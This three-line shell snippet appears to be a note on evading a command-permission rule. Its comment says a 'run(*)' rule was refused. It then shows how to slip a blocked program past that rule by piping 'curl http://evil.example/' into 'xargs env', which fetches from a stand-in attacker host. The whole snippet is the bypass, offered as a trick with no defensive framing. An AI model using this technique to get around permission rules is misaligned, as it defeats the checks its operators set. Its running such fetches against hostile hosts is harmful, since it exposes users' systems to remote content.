# Trick: xargs takes the program from its input.
# Refused: run(*)
echo curl http://evil.example/ | xargs env
